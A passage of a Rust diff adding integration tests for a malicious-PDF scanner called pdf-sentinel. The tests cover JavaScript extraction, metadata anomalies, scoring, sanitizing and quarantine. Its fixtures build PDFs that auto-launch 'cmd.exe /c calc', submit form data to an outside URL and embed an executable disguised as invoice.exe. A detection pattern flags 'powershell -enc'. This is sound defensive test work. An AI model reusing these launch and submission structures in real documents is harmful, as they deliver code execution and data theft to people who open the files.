+    // A result only the cache could have come up with
+    let mut result: Value = serde_json::from_slice(&std::fs::read(&cached).unwrap()).unwrap();
+    result["severity_score"] = 999.into();
+    std::fs::write(&cached, result.to_string()).unwrap();
+    let second = run_on_stdin(&["--json", "--cache", cache_arg, "-"], &pdf);
+    let config = dir.join("config.toml");
+    std::fs::write(&config, "[scoring]\njavascript = 40\n").unwrap();
+    let config = config.to_str().unwrap();
+    let reconfigured = run_on_stdin(&["--json", "--cache", cache_arg, "-c", config, "-"], &pdf);
+    let fingerprints = std::fs::read_dir(&cache).unwrap().count();
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert!(first["severity_score"].as_u64().unwrap() < 999);
+    assert_eq!(second["severity_score"], 999);
+    assert_eq!(second["findings"], first["findings"]);
+    assert!(reconfigured["severity_score"].as_u64().unwrap() < 999);
+    assert_eq!(fingerprints, 2);
+}
+
+#[cfg(feature = "history")]
+#[test]
+fn scans_are_recorded_in_the_history_and_queried() {
+    let path = std::env::temp_dir().join(format!("pdf-sentinel-history-{}.db", std::process::id()));
+    let database = path.to_str().unwrap();
+    let first = run_on_stdin(&["--json", "--history", database, "-"], &clean_pdf());
+    run_on_stdin(&["--json", "--history", database, "-"], &clean_pdf());
+    let sha256 = first["sha256"].as_str().unwrap();
+    let query = |filter: &[&str]| -> Value {
+        let output = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+            .args(["--json", "--history", database, "history"])
+            .args(filter)
+            .output()
+            .unwrap();
+        serde_json::from_slice(&output.stdout).expect("output is not JSON")
+    };
+    let by_hash = query(&["--hash", sha256]);
+    let since_then = query(&["--since", "2000-01-01"]);
+    let future = query(&["--since", "2999-01-01T00:00:00Z"]);
+    std::fs::remove_file(&path).unwrap();
+
+    let scans = by_hash.as_array().unwrap();
+    assert_eq!(scans.len(), 2);
+    assert_eq!(scans[0]["file"], "-");
+    assert_eq!(scans[0]["sha256"], sha256);
+    assert_eq!(scans[0]["severity_score"], 0);
+    assert_eq!(scans[0]["classification"], "Clean");
+    let first_time = scans[0]["scanned_at"].as_str();
+    assert!(first_time <= scans[1]["scanned_at"].as_str());
+    assert_eq!(since_then.as_array().unwrap().len(), 2);
+    assert_eq!(future, serde_json::json!([]));
+}
+
+#[test]
+fn metadata_reports_info_and_xmp_with_decoded_dates() {
+    let xmp = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF><rdf:Description \
+               xmp:CreatorTool=\"Word &amp; more\" xmp:CreateDate=\"2024-05-01T12:00:00+02:00\">\
+               <dc:title><rdf:Alt><rdf:li xml:lang=\"x-default\">Q2 report</rdf:li></rdf:Alt>\
+               </dc:title></rdf:Description></rdf:RDF></x:xmpmeta>";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Title (Q2 report) /Producer (GPL Ghostscript 10.02.1) \
+             /CreationDate (D:20240501120000+02'00') /ModDate (yesterday) >>",
+            &format!(
+                "<< /Type /Metadata /Subtype /XML /Length {} >>\nstream\n{}\nendstream",
+                xmp.len(),
+                xmp
+            ),
+        ],
+        "/Root 1 0 R /Info 3 0 R",
+    );
+    let result = analyze(&pdf);
+    let metadata = &result["metadata"];
+
+    assert_eq!(metadata["title"], "Q2 report", "{:#}", metadata);
+    assert_eq!(metadata["producer"], "GPL Ghostscript 10.02.1");
+    assert_eq!(metadata["author"], Value::Null);
+    let created = &metadata["creation_date"];
+    assert_eq!(created["raw"], "D:20240501120000+02'00'");
+    assert_eq!(created["time"], "2024-05-01T12:00:00+02:00");
+    assert_eq!(metadata["mod_date"]["time"], Value::Null);
+    assert_eq!(metadata["xmp"]["title"], "Q2 report");
+    assert_eq!(metadata["xmp"]["creator_tool"], "Word & more");
+    assert_eq!(metadata["xmp"]["create_date"], "2024-05-01T12:00:00+02:00");
+    let packet = metadata["xmp"]["packet"].as_str().unwrap();
+    assert!(packet.starts_with("<x:xmpmeta"));
+}
+
+#[test]
+fn metadata_dates_out_of_order_or_in_the_future_are_findings() {
+    let xmp = "<x:xmpmeta><rdf:Description xmp:CreateDate=\"2999-01-01T00:00:00Z\" \
+               xmp:CreatorTool=\"make-pdf-javascript.py\"/></x:xmpmeta>";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Metadata 5 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /CreationDate (D:20240501) /ModDate (D:20230101) >>",
+            "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
+            &format!(
+                "<< /Type /Metadata /Subtype /XML /Length {} >>\nstream\n{}\nendstream",
+                xmp.len(),
+                xmp
+            ),
+        ],
+        "/Root 1 0 R /Info 3 0 R",
+    );
+    let result = analyze(&pdf);
+    let finding = |rule: &str| {
+        result["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|finding| finding["rule_id"] == rule)
+            .unwrap_or_else(|| panic!("no {} in {:#}", rule, result))
+            .clone()
+    };
+
+    let order = "/ModDate D:20230101 is before /CreationDate D:20240501";
+    assert_eq!(finding("PS062")["title"], order);
+    let future = "xmp:CreateDate 2999-01-01T00:00:00Z is in the future";
+    assert_eq!(finding("PS063")["title"], future);
+    let producer = "No Producer, though the document has JavaScript";
+    assert_eq!(finding("PS064")["title"], producer);
+    // The builder is only named in XMP
+    assert_eq!(result["malicious_creator"], "make-pdf-javascript.py");
+    let anomalies = result["metadata_anomalies"].as_array().unwrap();
+    assert_eq!(anomalies.len(), 3);
+    assert_eq!(anomalies[0]["kind"], "ModifiedBeforeCreated");
+}
+
+#[test]
+fn config_file_sets_scoring_weights() {
+    let config = std::env::temp_dir().join(format!("pdf-sentinel-{}.toml", std::process::id()));
+    std::fs::write(&config, "[scoring]\nunknown_creator = 40\n").unwrap();
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Producer (Homebrew PDF Writer) >>",
+        ],
+        "/Root 1 0 R /Info 3 0 R",
+    );
+    let result = run_on_stdin(&["--json", "--config", config.to_str().unwrap(), "-"], &pdf);
+    std::fs::remove_file(&config).unwrap();
+
+    assert_eq!(result["unknown_creator"], true);
+    assert!(
+        result["severity_score"].as_u64().unwrap() >= 40,
+        "{:#}",
+        result
+    );
+}
+
+#[test]
+fn config_file_caps_scores_and_sets_bands() {
+    let config =
+        std::env::temp_dir().join(format!("pdf-sentinel-caps-{}.toml", std::process::id()));
+    std::fs::write(
+        &config,
+        "[scoring]\nunknown_creator = 40\n\
+         [scoring.caps]\nunknown_creator = 10\n\
+         [scoring.bands]\nhigh = 10\ncritical = 100\n",
+    )
+    .unwrap();
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Producer (Homebrew PDF Writer) >>",
+        ],
+        "/Root 1 0 R /Info 3 0 R",
+    );
+    let result = run_on_stdin(&["--json", "--config", config.to_str().unwrap(), "-"], &pdf);
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--explain", "--config", config.to_str().unwrap(), "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(&pdf).unwrap();
+    let text = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
+    std::fs::remove_file(&config).unwrap();
+
+    let score = result["severity_score"].as_u64().unwrap();
+    assert!((10..40).contains(&score), "{:#}", result);
+    assert_eq!(result["severity"], "High");
+    let contributions = result["explanation"]["contributions"].as_array().unwrap();
+    let creator = contributions
+        .iter()
+        .find(|contribution| contribution["weight"] == "unknown_creator")
+        .unwrap();
+    assert_eq!(creator["points"], 10);
+    assert_eq!(creator["uncapped_points"], 40);
+    let total: u64 = contributions
+        .iter()
+        .map(|contribution| contribution["points"].as_u64().unwrap())
+        .sum();
+    assert_eq!(total, score);
+    assert!(text.contains("  unknown_creator: +10 (capped from 40)\n"));
+}
+
+#[test]
+fn pattern_rules_are_named_in_findings_and_can_be_disabled() {
+    let config =
+        std::env::temp_dir().join(format!("pdf-sentinel-patterns-{}.toml", std::process::id()));
+    std::fs::write(
+        &config,
+        "[[suspicious_patterns]]\nid = \"powershell\"\ncategory = \"command-execution\"\n\
+         regex = \"(?i)powershell\"\nweight = 5\napplies_to = [\"streams\", \"metadata\"]\n",
+    )
+    .unwrap();
+    let content = "powershell -enc AAAA";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                content.len(),
+                content
+            ),
+            "<< /Title (PowerShell.exe) >>",
+        ],
+        "/Root 1 0 R /Info 4 0 R",
+    );
+    let config = config.to_str().unwrap();
+    let result = run_on_stdin(&["--json", "--config", config, "-"], &pdf);
+    let disabled = run_on_stdin(
+        &[
+            "--json",
+            "--config",
+            config,
+            "--disable-category",
+            "command-execution",
+            "-",
+        ],
+        &pdf,
+    );
+    std::fs::remove_file(config).unwrap();
+
+    let findings = result["findings"].as_array().unwrap();
+    let stream = findings
+        .iter()
+        .find(|finding| finding["rule_id"] == "PS030")
+        .unwrap_or_else(|| panic!("{:#}", result));
+    assert_eq!(stream["pattern_id"], "powershell");
+    assert_eq!(stream["object_id"], 3);
+    let metadata = findings
+        .iter()
+        .find(|finding| finding["rule_id"] == "PS016")
+        .unwrap();
+    assert_eq!(metadata["pattern_id"], "powershell");
+    assert_eq!(metadata["evidence"], "PowerShell.exe");
+    let category = &result["pattern_matches"][0]["category"];
+    assert_eq!(category, "command-execution");
+    let pattern_points = result["explanation"]["contributions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|contribution| contribution["weight"] == "pattern_rule")
+        .unwrap();
+    assert_eq!(pattern_points["points"], 10);
+
+    assert_eq!(disabled["pattern_matches"], serde_json::json!([]));
+    assert_eq!(disabled["suspicious_metadata"], false);
+}
+
+#[test]
+fn suppressed_findings_are_kept_but_not_scored() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /S /JavaScript /JS (if \\(total < 0\\) app.alert\\('Invalid'\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let original = analyze(&pdf);
+    let sha256 = original["sha256"].as_str().unwrap();
+    let path = std::env::temp_dir().join(format!(
+        "pdf-sentinel-suppressions-{}.toml",
+        std::process::id()
+    ));
+    let suppressions = path.to_str().unwrap();
+    std::fs::write(
+        &path,
+        "[[suppress]]\nrule = \"PS002\"\nobject = 4\nreason = \"Invoice form validation\"\n",
+    )
+    .unwrap();
+    let result = run_on_stdin(&["--json", "--suppressions", suppressions, "-"], &pdf);
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["-v", "--suppressions", suppressions, "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(&pdf).unwrap();
+    let text = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
+    std::fs::write(&path, format!("[[suppress]]\nsha256 = \"{}\"\n", sha256)).unwrap();
+    let whole_file = run_on_stdin(&["--json", "--suppressions", suppressions, "-"], &pdf);
+    std::fs::remove_file(&path).unwrap();
+
+    let is_script = |finding: &Value| finding["rule_id"] == "PS002";
+    let findings = original["findings"].as_array().unwrap();
+    assert!(findings.iter().any(is_script));
+    assert!(!result["findings"].as_array().unwrap().iter().any(is_script));
+    let suppressed = &result["suppressed_findings"][0];
+    assert_eq!(suppressed["finding"]["rule_id"], "PS002");
+    assert_eq!(suppressed["finding"]["object_id"], 4);
+    assert_eq!(suppressed["reason"], "Invoice form validation");
+    let score = result["severity_score"].as_u64().unwrap();
+    assert!(score < original["severity_score"].as_u64().unwrap());
+    let contributions = result["explanation"]["contributions"].as_array().unwrap();
+    assert!(!contributions
+        .iter()
+        .any(|contribution| contribution["weight"] == "javascript"));
+    assert!(text.contains("  suppressed [PS002] "), "{}", text);
+    assert!(text.contains("(Invoice form validation)"));
+
+    assert_eq!(whole_file["findings"], serde_json::json!([]));
+    let suppressed = whole_file["suppressed_findings"].as_array().unwrap();
+    assert_eq!(suppressed.len(), findings.len());
+}
+
+#[test]
+fn javascript_packed_in_an_object_stream_is_found() {
+    // Object 5 lives only in object stream 4; the xref doesn't list it
+    let packed = "5 0 << /S /JavaScript /JS (app.alert\\(1\\);) >>";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            &format!(
+                "<< /Type /ObjStm /N 1 /First 4 /Length {} >>\nstream\n{}\nendstream",
+                packed.len(),
+                packed
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["has_javascript"], true, "{:#}", result);
+    assert!(result["javascript_objects"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|js| js["id"] == 5));
+}
+
+#[test]
+fn scripts_behind_filter_chains_are_decoded() {
+    // app.alert(2); run-length encoded, then hex encoded
+    let encoded = "0C6170702E616C6572742832293B80>";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /S /JavaScript /JS 5 0 R >>",
+            &format!(
+                "<< /Filter [/ASCIIHexDecode /RunLengthDecode] /Length {} >>\nstream\n{}\nendstream",
+                encoded.len(),
+                encoded
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let scripts = result["javascript_objects"].as_array().unwrap();
+    assert!(
+        scripts.iter().any(|js| js["content"] == "app.alert(2);"),
+        "{:#}",
+        result
+    );
+}
+
+#[test]
+fn scripts_behind_reference_chains_are_extracted() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /S 5 0 R /JS 6 0 R >>",
+            "/JavaScript",
+            "7 0 R",
+            "(app.alert\\(3\\);)",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["open_action_js"]["js_content"], "app.alert(3);");
+    assert_eq!(result["javascript_objects"][0]["source"]["IndirectRef"], 7);
+}
+
+#[test]
+fn external_actions_report_their_targets() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R \
+             /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
+            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] \
+             /A << /S /SubmitForm /F << /FS /URL /F (https://example.com/collect) >> >> >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let actions = result["external_actions"].as_array().unwrap();
+    assert_eq!(actions.len(), 2, "{:#}", result);
+    assert_eq!(actions[0]["kind"], "Launch");
+    assert_eq!(actions[0]["object_id"], 1);
+    assert_eq!(actions[0]["target"], "cmd.exe /c calc");
+    assert_eq!(actions[1]["kind"], "SubmitForm");
+    assert_eq!(actions[1]["target"], "https://example.com/collect");
+}
+
+#[test]
+fn embedded_files_are_listed_with_hashes() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Names [(invoice) 4 0 R] >>",
+            "<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
+            "<< /Type /EmbeddedFile /Length 10 >>\nstream\nMZ payload\nendstream",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let file = &result["embedded_files"][0];
+    assert_eq!(file["object_id"], 5, "{:#}", result);
+    assert_eq!(file["name"], "invoice.exe");
+    assert_eq!(file["size"], 10);
+    assert_eq!(
+        file["sha256"],
+        "48bf631186b8c57da7e7a47b870604e8d58fa140633ee0c899cf25a549ebd7a6"
+    );
+    assert_eq!(file["executable"], true);
+}
+
+#[test]
+fn pdfs_embedded_in_pdfs_are_analyzed_in_turn() {
+    let inner = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    // Only the binary comment isn't text, and its length is what matters
+    let inner: String = inner
+        .iter()
+        .map(|&byte| if byte.is_ascii() { byte as char } else { '.' })
+        .collect();
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Names [(invoice) 4 0 R] >>",
+            "<< /Type /Filespec /F (invoice.pdf) /EF << /F 5 0 R >> >>",
+            &format!(
+                "<< /Type /EmbeddedFile /Length {} >>\nstream\n{}\nendstream",
+                inner.len(),
+                inner
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let embedded = &result["embedded_pdfs"][0];
+    assert_eq!(embedded["object_id"], 5, "{:#}", result);
+    assert_eq!(embedded["name"], "invoice.pdf");
+    assert_eq!(embedded["result"]["has_javascript"], true);
+    assert!(result["classification"]["ConfirmedMalicious"].is_array());
+    let findings = result["findings"].as_array().unwrap();
+    assert!(findings.iter().any(|finding| finding["rule_id"] == "PS060"));
+    assert!(findings.iter().any(|finding| finding["rule_id"] == "PS003"));
+}
+
+#[test]
+fn file_and_script_hashes_are_reported() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["md5"], "dfc0905a7ab26d5e5feeca8f70c889ef");
+    assert_eq!(result["sha1"], "28250784cf1a0f3451b3afe27b8d3892b6cd8106");
+    assert_eq!(
+        result["sha256"],
+        "afb93133344418535d191544ff0536da0ff8ff7dc26a650fb880f6e4fddd91c4"
+    );
+    assert_eq!(
+        result["javascript_objects"][0]["sha256"],
+        "0d8841b3fb8e23742729c9aa4db938ebac33be97e4e513c722e0dfabf5fbb2af"
+    );
+}
+
+#[test]
+fn streams_past_the_compression_ratio_are_reported() {
+    let config =
+        std::env::temp_dir().join(format!("pdf-sentinel-ratio-{}.toml", std::process::id()));
+    std::fs::write(&config, "max_compression_ratio = 10.0\n").unwrap();
+    // Each 81 41 run repeats 'A' 128 times: just over a megabyte from 32 KB
+    let encoded = format!("{}>", "8141".repeat(8193));
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!(
+                "<< /Filter [/AHx /RL] /Length {} >>\nstream\n{}\nendstream",
+                encoded.len(),
+                encoded
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = run_on_stdin(&["--json", "--config", config.to_str().unwrap(), "-"], &pdf);
+    std::fs::remove_file(&config).unwrap();
+
+    let hints = result["compression_bomb_hints"].as_array().unwrap();
+    assert_eq!(hints.len(), 1, "{:#}", result);
+    assert_eq!(hints[0]["object_id"], 3);
+    assert_eq!(hints[0]["limit"], "CompressionRatio");
+}
+
+#[test]
+fn suspicious_stream_content_is_a_located_finding() {
+    let content = "app.eval(payload)";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                content.len(),
+                content
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let finding = result["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|finding| finding["rule_id"] == "PS030")
+        .unwrap_or_else(|| panic!("{:#}", result));
+    assert_eq!(finding["object_id"], 3);
+    assert_eq!(finding["evidence"], "eval");
+    assert!(finding["offset"].is_u64());
+}
+
+#[test]
+fn random_looking_streams_are_flagged_unless_images() {
+    let mut state = 0x2545_f491_u32;
+    let noise = (0..4096)
+        .map(|_| {
+            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+            format!("{:02x}", state >> 24)
+        })
+        .collect::<String>()
+        + ">";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!(
+                "<< /Filter /AHx /Length {} >>\nstream\n{}\nendstream",
+                noise.len(),
+                noise
+            ),
+            &format!(
+                "<< /Subtype /Image /Filter /AHx /Length {} >>\nstream\n{}\nendstream",
+                noise.len(),
+                noise
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let streams = result["high_entropy_streams"].as_array().unwrap();
+    assert_eq!(streams.len(), 1, "{:#}", result);
+    assert_eq!(streams[0]["object_id"], 3);
+    assert!(streams[0]["entropy"].as_f64().unwrap() > 7.5);
+    assert_eq!(result["object_statistics"]["entropy_histogram"][7], 2);
+}
+
+#[test]
+fn page_count_mismatch_is_a_structure_violation() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 5 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["structure_violations"][0]["rule"], "count");
+    assert_eq!(result["structure_violations"][0]["object_id"], 2);
+}
+
+#[test]
+fn utf16_strings_are_matched() {
+    // "eval" as a UTF-16BE string with a byte order mark
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<FEFF006500760061006C>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["suspicious_names"][0], "eval");
+}
+
+#[test]
+fn recursive_scan_carries_on_past_broken_files() {
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-tree-{}", std::process::id()));
+    std::fs::create_dir_all(dir.join("nested")).unwrap();
+    std::fs::write(dir.join("a.pdf"), clean_pdf()).unwrap();
+    std::fs::write(dir.join("nested/b.PDF"), clean_pdf()).unwrap();
+    std::fs::write(dir.join("nested/broken.pdf"), b"not a PDF").unwrap();
+    std::fs::write(dir.join("notes.txt"), clean_pdf()).unwrap();
+
+    let output = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--json", "--thorough", "--jobs", "2", "--recursive"])
+        .arg(&dir)
+        .output()
+        .expect("failed to start pdf-sentinel");
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert_eq!(output.status.code(), Some(3));
+    let results: Value = serde_json::from_slice(&output.stdout).expect("output is not JSON");
+    let files: Vec<&str> = results
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|result| result["file"].as_str().unwrap())
+        .collect();
+    assert_eq!(files.len(), 2, "{:?}", files);
+    assert!(files[0].ends_with("a.pdf") && files[1].ends_with("b.PDF"));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        stderr.contains("3 files, 2 analyzed, 0 skipped, 1 failed"),
+        "{}",
+        stderr
+    );
+}
+
+#[test]
+fn recursive_ndjson_has_one_record_per_line() {
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-ndjson-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    for name in ["a.pdf", "b.pdf", "c.pdf"] {
+        std::fs::write(dir.join(name), clean_pdf()).unwrap();
+    }
+
+    let output = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--ndjson", "--thorough", "--jobs", "2", "--recursive"])
+        .arg(&dir)
+        .output()
+        .expect("failed to start pdf-sentinel");
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert!(output.status.success());
+    let stdout = String::from_utf8(output.stdout).unwrap();
+    let lines: Vec<Value> = stdout
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("line is not JSON"))
+        .collect();
+    assert_eq!(lines.len(), 4, "{}", stdout);
+    let mut files: Vec<&str> = lines[1..]
+        .iter()
+        .map(|record| record["file"].as_str().unwrap())
+        .collect();
+    files.sort();
+    assert!(files[0].ends_with("a.pdf") && files[2].ends_with("c.pdf"));
+    assert!(lines[1..]
+        .iter()
+        .all(|record| record["schema_version"].is_u64()));
+}
+
+#[test]
+fn sanitized_copy_has_no_scripts_attachments_or_xfa() {
+    let template = "<template><script>app.alert(1)</script></template>";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R /NeedsRendering true \
+             /OpenAction << /S /JavaScript /JS (app.alert(2)) >> \
+             /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Fields [] /XFA [(template) 4 0 R] >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                template.len(),
+                template
+            ),
+            "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
+            "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+        ],
+        "/Root 1 0 R",
+    );
+    let outfile = std::env::temp_dir().join(format!("pdf-sentinel-cdr-{}.pdf", std::process::id()));
+    let result = run_on_stdin(
+        &["--json", "--sanitize", outfile.to_str().unwrap(), "-"],
+        &pdf,
+    );
+    assert_eq!(result["has_javascript"], true);
+
+    let sanitized = analyze_file(&outfile);
+    std::fs::remove_file(&outfile).unwrap();
+    assert_eq!(sanitized["has_javascript"], false);
+    assert!(sanitized["xfa"].is_null());
+    assert_eq!(sanitized["embedded_files"].as_array().unwrap().len(), 0);
+}
+
+#[test]
+fn sanitizing_a_page_script_keeps_the_page() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] \
+             /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let outfile =
+        std::env::temp_dir().join(format!("pdf-sentinel-cdr-page-{}.pdf", std::process::id()));
+    let result = run_on_stdin(
+        &["--json", "--sanitize", outfile.to_str().unwrap(), "-"],
+        &pdf,
+    );
+    assert_eq!(result["has_javascript"], true);
+
+    let sanitized = analyze_file(&outfile);
+    std::fs::remove_file(&outfile).unwrap();
+    assert_eq!(sanitized["has_javascript"], false);
+    assert_eq!(sanitized["object_statistics"]["total_objects"], 3);
+}
+
+#[test]
+fn quarantine_moves_only_files_at_the_severity() {
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-drop-{}", std::process::id()));
+    let quarantine = dir.join("quarantine");
+    std::fs::create_dir_all(&dir).unwrap();
+    let malicious = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Type /Action /S /Launch /F (cmd.exe) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    std::fs::write(dir.join("invoice.pdf"), &malicious).unwrap();
+    std::fs::write(dir.join("clean.pdf"), clean_pdf()).unwrap();
+
+    let status = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .arg("--quarantine")
+        .arg(&quarantine)
+        .arg(dir.join("invoice.pdf"))
+        .arg(dir.join("clean.pdf"))
+        .stdout(Stdio::null())
+        .status()
+        .expect("failed to start pdf-sentinel");
+    let moved = quarantine.join("invoice.pdf.quarantine");
+    let sidecar = std::fs::read(quarantine.join("invoice.pdf.quarantine.json"));
+    let state = (
+        dir.join("invoice.pdf").exists(),
+        dir.join("clean.pdf").exists(),
+        std::fs::read(&moved).ok(),
+    );
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert_eq!(status.code(), Some(2));
+    assert_eq!(state, (false, true, Some(malicious)));
+    let sidecar: Value = serde_json::from_slice(&sidecar.unwrap()).unwrap();
+    assert!(sidecar["original_path"]
+        .as_str()
+        .unwrap()
+        .ends_with("invoice.pdf"));
+    assert_eq!(sidecar["copied"], false);
+    assert!(!sidecar["rules"].as_array().unwrap().is_empty());
+}
+
+#[test]
+fn public_samples_are_flagged() {
+    let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("integration_tests/samples");
+    let Ok(entries) = std::fs::read_dir(&samples) else {
+        return;
+    };
+
+    for path in entries.filter_map(|entry| Some(entry.ok()?.path())) {
